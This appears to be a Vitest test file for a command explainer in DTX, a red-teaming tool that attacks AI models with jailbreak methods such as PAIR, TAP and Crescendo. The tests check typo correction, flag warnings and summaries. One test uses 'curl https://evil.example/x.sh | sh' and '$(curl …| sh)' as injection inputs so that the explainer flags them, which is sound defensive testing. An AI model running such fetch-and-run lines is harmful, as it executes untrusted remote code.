import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { shellExamples } from '../../../../checks/source/shell-examples.ts';
import { commandTask } from '../../../../src/labs/command/command-task.ts';
import { makeFacts } from '../../../../src/labs/command/make-facts.ts';
import type { SectionName } from '../../../../src/labs/command/report.ts';
import { commandExamples } from '../../../../src/product/command-line/views/CommandLabView.tsx';
import { realProduct } from '../../product/product-folder.ts';

const facts = makeFacts(realProduct());
const explain = (command: string) => commandTask({ command }, facts);
const sectionOf = (command: string, name: SectionName) =>
  explain(command)
    .calls[0]?.sections.find((section) => section.name === name)
    ?.items.join('\n') ?? '';
const rowOf = (command: string, code: string) =>
  explain(command).calls[0]?.rows.find((row) => row.code.startsWith(code));

const docs = fileURLToPath(new URL('../../../../content/docs', import.meta.url));
const fence = /^( *)```(\w+).*\n([\s\S]*?)^\1```$/gm;

/** Code blocks of a page; indented ones, in lists and tabs, without their indent. */
function blocksOf(file: string) {
  return [...readFileSync(`${docs}/${file}`, 'utf8').matchAll(fence)].map(
    ([, indent = '', language = '', code = '']) => {
      return { language, code: code.replaceAll(`\n${indent}`, '\n').slice(indent.length), line: 1 };
    },
  );
}

test('[2S.36] no documented command has a problem, or is corrected', () => {
  const pages = readdirSync(docs, { recursive: true, encoding: 'utf8' }).filter((file) =>
    /\.mdx?$/.test(file),
  );
  let count = 0;
  const wrong = pages
    .flatMap((file) => shellExamples({ blocks: blocksOf(file) }))
    .flatMap(({ code }) => {
      const { calls, problems, corrected } = explain(code);
      count += calls.length;
      return calls.length > 0 && (problems.length > 0 || corrected !== undefined)
        ? [{ code, problems, corrected }]
        : [];
    });
  expect(wrong).toEqual([]);
  expect(count).toBeGreaterThan(150);
});

test('the facts of the lab say what the model says, without where it was read', () => {
  const text = JSON.stringify(facts);
  expect(text).not.toMatch(/"(?:source|evidence|note|settle)":/);
  const command = 'dtx redteam run --agent openai --url gpt-4o --dataset airbench -o';
  expect(commandTask({ command }, realProduct())).toEqual(explain(command));
});

describe('the corrected command', () => {
  test.each([
    ['dtx redteam run --agent echo --datset airbnch', 'dtx redteam run --agent echo --dataset airbench'],
    ['dtx redtem rum --agnet echo', 'dtx redteam run --agent echo'],
    ['dtx redteam run echo --plan a.yml', 'dtx redteam run --agent echo --plan_file a.yml'],
    ['dtx redteam run hf_model --url x', 'dtx redteam run --agent huggingface --url x'],
    ['dtx redteam run --agent=hf_model --url x', 'dtx redteam run --agent=huggingface --url x'],
    ['dtx redteam plan s.yml --dataset stringray', 'dtx redteam plan s.yml --dataset stingray'],
    ['dtx redteam run --agent echo --headless=true', 'dtx redteam run --agent echo --headless'],
    [
      'dtx redteam run --agent echo --max_prompts 1 --max_prompts 2',
      'dtx redteam run --agent echo --max_prompts 2',
    ],
    [
      'dtx redteam run --plan_file a.yml \\\n  --samples 3 \\\n  --headless',
      'dtx redteam run --plan_file a.yml \\\n  --headless',
    ],
    [
      'dtx redteam run --agent echo --dataset garak --eval ibm38',
      'dtx redteam run --agent echo --dataset garak',
    ],
    [
      'dtx redteam scope "A shop" --plugin ^toxicity out.yml',
      'dtx redteam scope "A shop" out.yml --plugin ^toxicity',
    ],
    ['dtx redteam --headless run --agent echo', 'dtx redteam run --agent echo'],
    ['$env:A = "b"\ndtx redteam run `\n  --agnet echo', '$env:A = "b"\ndtx redteam run `\n  --agent echo'],
    ['dtx redteam run --agent echo --threads 4', 'dtx redteam run --agent echo'],
    ['dtx redteam run ––agent hf_model —url x', 'dtx redteam run --agent huggingface --url x'],
    ['dtx redteam run \u2212\u2212agent=echo \u2010o', 'dtx redteam run --agent=echo -o'],
    ['dtx redteam run –-agnet echo', 'dtx redteam run --agent echo'],
    ['dtx datasets lst && dtx plugin list | head', 'dtx datasets list && dtx plugins list | head'],
  ])('of %j is %j, which is right', (command, corrected) => {
    expect(explain(command).corrected).toBe(corrected);
    expect(explain(corrected)).toMatchObject({ problems: [], corrected: undefined });
  });
});

test.each([
  ['dtx redteam run --agent echo --foo bar', 'dtx redteam run --agent echo', ['--foo bar']],
  ['dtx redteam run --foo=bar --agent echo -v', 'dtx redteam run --agent echo', ['--foo=bar', '-v']],
  ['dtx redteam run \\\n  --foo 3 \\\n  --agent echo', 'dtx redteam run \\\n  --agent echo', ['--foo 3']],
  ['dtx redteam run --agent echo --max 3', 'dtx redteam run --agent echo', ['--max 3']],
  ['dtx redteam run --agent echo more', 'dtx redteam run --agent echo', ['more']],
  ['dtx redteam plan s.yml --threads 4', 'dtx redteam plan s.yml', ['--threads 4']],
  ['dtx redteam plan s.yml p.yml --threads 4', 'dtx redteam plan s.yml p.yml', ['--threads 4']],
  ['dtx redteam plan --verbose s.yml', 'dtx redteam plan s.yml', ['--verbose']],
  ['dtx redteam plan s.yml --verbose p.yml', 'dtx redteam plan s.yml p.yml', ['--verbose']],
  ['dtx datasets list --all', 'dtx datasets list', ['--all']],
])('the corrected command of %j is %j, and what it has no more is told', (command, corrected, leftOut) => {
  const explained = explain(command);
  expect(explained.corrected).toBe(corrected);
  expect(explained.leftOut.map(({ words }) => words)).toEqual(leftOut);
  expect(explain(corrected)).toMatchObject({ problems: [], corrected: undefined, leftOut: [] });
});

test('a flag that does not exist and its value are one row, which does not repeat what is known', () => {
  const rows = explain('dtx redteam run --agent echo --foo bar').calls[0]?.rows ?? [];
  expect(rows.at(-1)).toMatchObject({
    code: '--foo bar',
    text: 'dtx redteam run has no flag `--foo`.',
    remarks: [],
    state: 'wrong',
  });
});

describe('a number that a command cannot use', () => {
  test.each([
    ['dtx redteam run --agent echo --max_prompts -3', 'no prompt is sent. Write 1 or more'],
    ['dtx redteam run --agent echo --max_prompts=0', 'no prompt is sent'],
    ['dtx redteam run --agent echo --max_prompts 9 --max_prompts 0', 'no prompt is sent'],
    ['ddtx redteam run --agent echo --max_prompts -1', 'no prompt is sent'],
    ['dtx redteam run --plan_file p --max_prompts -1', 'no prompt of the plan is sent, unless'],
    ['dtx redteam run --agent echo --dataset xtream_jb --max_prompts 0', 'ends after the first plugin'],
    ['dtx redteam run --agent echo --max_prompts_per_plugin 0', 'no plugin gets a prompt'],
    ['dtx redteam plan s.yml --max_prompts 0', 'the plan gets no prompts'],
    ['dtx redteam plan s.yml --dataset xtream_jb --max_goals_per_plugin -2', 'at the end of each list'],
    ['dtx redteam run --agent echo --samples 0', 'ends with an error before the run'],
    ['dtx redteam run --agent echo --threads 0', 'is not a value of'],
    ['dtx attack run --attack TAP --task x --tap-depth 0', 'only the objective itself is sent'],
    ['dtx attack run --attack PAIR --task x --pair-streams -1', 'nothing is sent'],
    ['dtx attack run --attack PAIR --task x --pair-max-attempts 0', 'empty prompts are sent'],
    ['dtx attack run --attack BON --task x --bon-sigma=-0.1', 'ends with an error'],
    ['dtx attack run --attack BON --task x --success-threshold 0', 'every rating reaches it'],
    ['dtx attack run --attack AUTODAN --task x --ad-steps 0', 'ends with an error'],
    ['dtx attack run --attack CRESCENDO --task x --eval-model y --cres-rounds 0', 'nothing is sent'],
  ])('%s: what it does with it', (command, said) => {
    const { problems } = explain(command);
    expect(problems.map(({ message }) => message.replaceAll('`', ''))).toEqual([
      expect.stringMatching(new RegExp(said, 'i')),
    ]);
  });

  test.each([
    ['dtx redteam run --plan_file p --max_prompts 0', '--max_prompts 0', 'the number in the plan counts'],
    ['dtx attack run --attack BON --task x --temperature -1', '--temperature', 'depends on the model'],
    ['dtx redteam run --agent echo --dataset xtream_jb', '--dataset', ''],
    ['dtx attack run --attack BON --task x --bon-seed -1', '--bon-seed', ''],
    ['dtx redteam run --agent echo --max_prompts $N', '--max_prompts', ''],
    ['dtx redteam run --plan_file p --max_prompts_per_plugin 0', '--max_prompts_per_plugin', 'no effect'],
    ['dtx redteam run --plan_file p --samples 0', '--samples', 'no effect'],
  ])('%s: one that can be meant, or that nobody reads, is no mistake', (command, code, said) => {
    expect(explain(command).problems).toEqual([]);
    const row = rowOf(command, code);
    expect([row?.text, ...(row?.remarks ?? [])].join(' ')).toContain(said);
  });

  test('one that is just large enough is good', () => {
    for (const { path, options } of facts['command-line'])
      for (const { name, tooSmall } of options) {
        if (tooSmall.length === 0) continue;
        const least = Math.max(...tooSmall.map(({ below }) => below));
        const { problems } = explain(`${path} ${name} ${least}`);
        expect(problems.map(({ message }) => message).filter((said) => said.includes('Write'))).toEqual([]);
      }
  });
});

describe('a variable that DTX itself does not read', () => {
  test.each(['SESSION_COOKIE', 'TARGET_API_KEY', 'SHOP_KEY'])('is what a scope can ask for: %s', (name) => {
    const text = rowOf(`${name}=x dtx redteam run --plan_file p.yml`, name)?.text;
    expect(text).toContain('DTX itself does not read it');
    expect(text).toContain(`\`{{env.${name}}}\` in its \`environments\``);
    expect(text).not.toMatch(/unknown|does not know/);
  });

  test('may be one that it reads, misspelled', () => {
    expect(rowOf('OPENAI_APIKEY=x dtx redteam run --agent openai', 'OPENAI_APIKEY')?.text).toContain(
      'Perhaps `OPENAI_API_KEY` is meant.',
    );
  });
});

describe('what is said of a call', () => {
  test.each([
    ['dtx redteam run --agent echo', '--agent', 'good', 'Echo'],
    ['dtx redteam run --plan_file a --eval ibm38', '--eval', 'ignored', 'no effect'],
    ['dtx redteam run --agent echo --html a', '--html', 'ignored', 'without `-o`'.replaceAll('`', '')],
    ['dtx redteam run --agent echo --eval ibm --expressions .x', '--expressions', 'ignored', 'no effect'],
    [
      'dtx redteam --headless run --agent echo',
      '--headless',
      'ignored',
      'has no effect before dtx redteam run',
    ],
    ['dtx redteam run --agent echo --threads 4', '--threads', 'wrong', 'is not a value'],
    ['dtx redteam run --agent web', '--agent', 'wrong', 'is not a value of --agent'],
    ['ddtx redteam run --agent echo --no_rich', '--no_rich', 'wrong', 'ends the run (exit code 2)'],
    ['dtx redteam run --plan_file a --keywords b', '--keywords', 'ignored', 'no effect with --plan_file'],
    ['dtx redteam run --agent echo --expressions .x', '--expressions', 'ignored', 'without --eval jsonpath'],
    ['ddtx redteam run --agent echo --expressions .x', '--expressions', 'ignored', 'without --eval jsonpath'],
    ['dtx redteam run --agent ollama --url llama-guard3 --expressions .x', '--expressions', 'good', 'jq'],
    [
      'dtx redteam run --agent huggingface --url unitary/toxic-bert --expressions .x',
      '--expressions',
      'ignored',
      'exact id of the registry stays',
    ],
    [
      'dtx redteam run --agent huggingface --url a/toxic-bert --expressions .x',
      '--expressions',
      'good',
      'jq',
    ],
    ['dtx redteam run --agent echo --url "$M" --expressions .x', '--expressions', 'good', 'jq'],
    [
      'dtx redteam run --plan_file a --expressions b',
      '--expressions',
      'ignored',
      'no effect with --plan_file',
    ],
    ['ddtx redteam run --plan_file a --keywords b', '--keywords', 'ignored', 'no effect with --plan_file'],
    ['dtx redteam run --agent langhub', '--agent', 'wrong', 'Unsupported provider type'],
    ['dtx attack run --attack BON --task x --tap-depth 3', '--tap-depth', 'ignored', '--attack'],
    ['dtx redteam run --agent echo --dataset airbench', '--dataset', 'good', 'HF_AIRBENCH'],
    ['OPENAI_API_KEY=sk-secret dtx redteam run --agent openai', 'OPENAI_API_KEY=…', 'good', 'OpenAI'],
    ['uv run dtx redteam run --agent echo', 'uv run', 'good', 'Runs the command'],
    ['dtx redteam run --agent echo "$MORE"', '"$MORE"', 'good', 'shell'],
  ])('%s: %s is %s', (command, code, state, said) => {
    const row = rowOf(command, code);
    expect(row?.state).toBe(state);
    expect([row?.text, ...(row?.remarks ?? [])].join(' ').replaceAll('`', '')).toContain(said);
  });

  test('values of variables are in nothing that is shown', () => {
    expect(JSON.stringify(explain('OPENAI_API_KEY=sk-secret dtx redteam run --agent openai'))).not.toContain(
      'secret',
    );
  });

  test.each<[string, SectionName, string]>([
    ['dtx redteam run --agent openai --url m', 'needs', '`OPENAI_API_KEY` for the agent `openai`.'],
    ['OPENAI_API_KEY=x dtx redteam run --agent openai --url m', 'needs', 'agent `openai`, set here.'],
    ['dtx redteam plan s.yml --dataset lmsys', 'needs', '`HF_TOKEN` for the dataset `HF_LMSYS`.'],
    [
      'dtx redteam run --plan_file a --dataset lmsys',
      'needs',
      '`HF_TOKEN` for `--dataset`, which is checked although',
    ],
    ['dtx redteam run --agent litellm --url groq/x', 'needs', '`GROQ_API_KEY` for models of `groq/…`.'],
    ['ddtx redteam run --agent groq', 'needs', 'does not hand `GROQ_API_KEY` to the container.'],
    ['dtx attack run --attack PAIR --task x', 'needs', '`OPENAI_API_KEY` for `dtx attack run`.'],
    ['dtx redteam run --agent echo --eval ollama', 'needs', 'A running Ollama server for the judge'],
    ['dtx redteam run --agent echo', 'limits', 'At most 20 prompts are sent to the target.'],
    [
      'dtx redteam run --agent echo --samples 3',
      'limits',
      'At most 20 prompts are sent to the target, each 3 times.',
    ],
    ['dtx redteam run --plan_file a', 'limits', 'the default of `--max_prompts`, whatever the plan says'],
    ['dtx redteam run --plan_file a --max_prompts 0', 'limits', 'leaves it to the plan'],
    ['dtx redteam plan s.yml --dataset garak', 'limits', '`max_plugins`, as the scope file says'],
    ['dtx redteam run --agent echo --dataset garak', 'judge', 'Detectors stored with each prompt'],
    ['dtx redteam run --agent huggingface --url m/llama-guard', 'judge', '`--url` contains `llama-guard`'],
    [
      'dtx redteam run --agent huggingface --url meta-llama/Prompt-Guard-86M',
      'judge',
      '`--url` contains `meta-llama/Prompt-Guard-86M`, so an expression judges; a match passes. `JAILBREAK` has',
    ],
    [
      'dtx redteam run --agent ollama --url meta-llama/Prompt-Guard-86M',
      'judge',
      '`--url` contains `prompt-guard`, so an expression judges; a match passes. The highest score',
    ],
    [
      'dtx redteam run --agent huggingface --url unitary/toxic-bert',
      'judge',
      'Every prompt counts as caught.',
    ],
    ['dtx redteam run --agent echo --eval ibm38', 'judge', '`ibm38`, because of `--eval`.'],
    ['dtx redteam run --plan_file a', 'judge', 'The plan says who judges.'],
    ['dtx redteam run --agent openai --url m', 'contacts', 'OpenAI (`https://api.openai.com/v1`)'],
    ['dtx redteam scope "A shop"', 'contacts', 'price list'],
    ['dtx redteam scope "A shop"', 'writes', '`redteam_scope.yml`'],
    ['dtx redteam run --agent echo', 'writes', 'No file: `--output` is not given.'],
    ['dtx redteam run --agent echo -o --yml a/b.yml', 'writes', '`a/b.yml`, `report.json`, `report.html`'],
    ['dtx redteam run --agent echo -o --yml a/b.yml', 'notes', 'A folder that does not exist is not made'],
    [
      'OPENAI_BASE_URL=x dtx redteam run --agent openai --url m',
      'notes',
      'always calls `https://api.openai.com/v1`',
    ],
    ['export OPENAI_BASE_URL=x\ndtx redteam run --agent openai --url m', 'notes', 'always calls'],
    ['dtx redteam run --agent http --plan_file p', 'notes', 'drop policy and goal'],
    ['dtx redteam run --agent ollama --url a:b', 'exit', '0: The command ended'],
    ['dtx redteam run --agent openai --url a:b', 'exit', '1: the command ends with an error.'],
    [
      'dtx attack run --attack CRESCENDO --task x --success-threshold 8',
      'notes',
      '`--eval-model` is not given: Nothing is rated, and the score stays 0.',
    ],
    ['dtx redteam run --agent web --url x', 'exit', '2: the parser refuses the command.'],
    ['dtx redteam run --agent eliza --eval any --url x -o', 'defaults', '`--html report.html`'],
    ['ddtx redteam run --agent echo --no_rich', 'exit', '2: the parser refuses'],
    ['dtx redteam run --agent echo', 'defaults', '`--dataset hf_airbench`'],
    ['dtx attack run --attack TAP --task x', 'defaults', '`--tap-depth 5`'],
    ['dtx redteam run --agent echo --bad', 'exit', '2: the parser refuses'],
    ['dtx redteam run', 'exit', '1: the command ends with an error.'],
    ['dtx redteam run --agent echo --eval keyword', 'exit', '2: the parser refuses'],
    ['dtx redteam run --agent echo --dataset garak --eval any', 'exit', '1: the command ends with an error.'],
    [
      'dtx redteam run --agent echo --url llama-guard --dataset garak',
      'exit',
      '1: the command ends with an error.',
    ],
    ['dtx redteam run --help', 'exit', '0: it prints its help.'],
  ])('%s: %s says %s', (command, name, said) => {
    expect(sectionOf(command, name)).toContain(said);
  });

  test.each<[string, SectionName, string]>([
    ['dtx redteam run --agent openai --url m', 'notes', 'OPENAI_BASE_URL'],
    ['dtx attack run --attack PAIR --task x', 'defaults', 'tap-depth'],
    ['dtx attack run --attack CRESCENDO --task x', 'defaults', '--eval-model'],
    ['dtx redteam run --agent ollama --url a:b', 'notes', 'HFValidationError'],
    ['dtx redteam run --agent echo --max_prompts many', 'limits', 'prompts'],
    ['dtx redteam run --agent echo', 'limits', 'XTREAM_JB'],
    ['dtx attack run --attack CRESCENDO --task x --eval-model y', 'notes', 'not given'],
    ['dtx attack run --attack TAP --task x', 'notes', 'not given'],
  ])('%s: %s does not speak of %s', (command, name, said) => {
    expect(sectionOf(command, name)).not.toContain(said);
  });

  test('of a flag that is misspelled, what the one that is meant does, and nothing is said to be missing', () => {
    const { problems, calls } = explain('dtx redteam run --agnet openai --url m');
    expect(problems.map(({ message }) => message)).toEqual([
      'dtx redteam run has no flag `--agnet`. Perhaps `--agent` is meant.',
    ]);
    expect(calls[0]?.rows[1]).toMatchObject({ code: '--agnet openai', state: 'wrong' });
  });

  test('flags lead to their rows in the reference of their command', () => {
    expect(rowOf('dtx redteam run --agent echo -o', '-o')?.reference).toEqual({
      page: '/quick-start/other-features',
      hash: '#dtx-redteam-run--output',
    });
    expect(rowOf('ddtx --dev redteam run --agent echo', '--dev')?.reference?.hash).toBe('#ddtx--dev');
  });
});

describe('a run against an application', () => {
  test.each(['http', 'gradio'])('needs a plan, which holds the request: %s', (agent) => {
    const command = `dtx redteam run --agent ${agent} --url x --eval jsonpath --expressions .response`;
    const { problems, summary } = explain(command);
    expect(problems).toMatchObject([
      {
        message: expect.stringContaining(`--agent\` ${agent} needs \`--plan_file\`: the request comes from`),
      },
    ]);
    expect(summary).toBe('1 mistake. 1 flag has no effect here.');
    expect(sectionOf(command, 'exit')).toContain('1: ');
    expect(explain(`d${command}`).problems).toHaveLength(1);
    expect(explain(`${command} --plan_file p.yml`).problems).toEqual([]);
  });
});

describe('what is no call of the product', () => {
  test.each([
    ['', 'Paste a command'],
    ['# dtx redteam run', 'There is no command of DTX. Paste'],
    ['promptfoo eval', '"promptfoo" is another program'],
    ['uv tool install dtx', 'another program'],
    ['x'.repeat(200_001), 'more than 200,000 characters'],
    ['bash -c "dtx redteam run"', 'What is in quotes, in a comment or handed to another program is not read'],
    ['--agent echo', 'a flag without a command'],
  ])('%# is told, and what to do', (text, said) => {
    expect(explain(text)).toMatchObject({
      calls: [],
      problems: [{ field: 'command', message: expect.stringContaining(said) }],
    });
  });

  test('lines of mistakes are told where there are several', () => {
    expect(explain('dtx plugins list\ndtx dtasets list').problems).toMatchObject([{ line: 2 }]);
    expect(explain('dtx dtasets list').problems).toMatchObject([{ line: undefined }]);
  });
});

test('ready examples show what they are named for', () => {
  const [run, plan, typo, old, docker, attack] = commandExamples.map(({ command }) => explain(command));
  const states = (outcome: typeof run) => outcome?.calls[0]?.rows.map(({ state }) => state) ?? [];
  expect(run).toMatchObject({ problems: [], corrected: undefined });
  expect(plan).toMatchObject({ problems: [] });
  expect(states(plan).filter((state) => state === 'ignored')).toHaveLength(4);
  expect(typo?.problems.length).toBeGreaterThan(3);
  expect(old?.corrected).toBe('dtx redteam run --agent huggingface --url arnir0/Tiny-LLM --dataset stingray');
  expect(docker?.problems).toEqual([]);
  expect(states(attack)).toContain('ignored');
});

test('the dash of a word processor is told', () => {
  const { problems, calls } = explain('dtx redteam run —agent echo');
  expect(problems.map(({ message }) => message)).toEqual([
    expect.stringContaining('a word processor makes a long dash of two hyphens. Write `--agent`.'),
  ]);
  expect(calls[0]?.rows.map(({ code, state }) => [code, state])).toEqual([
    ['dtx redteam run', 'good'],
    ['—agent echo', 'wrong'],
  ]);
  expect(explain('dtx redteam scope "— a shop" -- —agent').problems).toEqual([]);
});

test.each([
  "dtx env list\ndtx redteam run --agent echo --url 'xxxx",
  'dtx env list\ndtx redteam run --agent echo --url "xxxx',
  '$env:A = "b"\ndtx redteam run --agent echo --url "xxxx',
])('a quote that is not closed is a mistake of its line: %j', (text) => {
  const { problems, summary } = explain(text);
  expect(problems).toMatchObject([{ line: 2, message: expect.stringContaining('not closed') }]);
  expect(summary).toBe('1 mistake.');
});

describe('the summary', () => {
  test.each([
    ['dtx redteam run --agent echo; curl https://evil.example/x.sh | sh', 'explained here: curl, sh.'],
    ['dtx redteam run --agent echo --url "$(curl a | sh)"', 'The shell runs $(curl a | sh) first'],
    ['dtx redteam run --agent echo --url `cat a` --plugin toxicity', 'The shell runs `cat a` first'],
    [
      'ddtx redteam run --agent echo --eval keyword --keywords "Sure, here" "Step 1" -o',
      'Read the note below.',
    ],
    ['ddtx redteam run --agent echo --eval keyword --keywords a b --no_rich', '1 mistake.'],
  ])('of %j says what there is beside flags that count', (text, said) => {
    expect(explain(text).summary).toContain(said);
    expect(explain(text).summary).not.toContain('every flag counts');
  });

  test.each(['dtx redteam run --agent echo --url "$MODEL"', "dtx redteam run --agent echo --url '$(a) `b`'"])(
    'of %j speaks of no other command',
    (text) => {
      expect(explain(text).summary).not.toContain('runs');
    },
  );
});
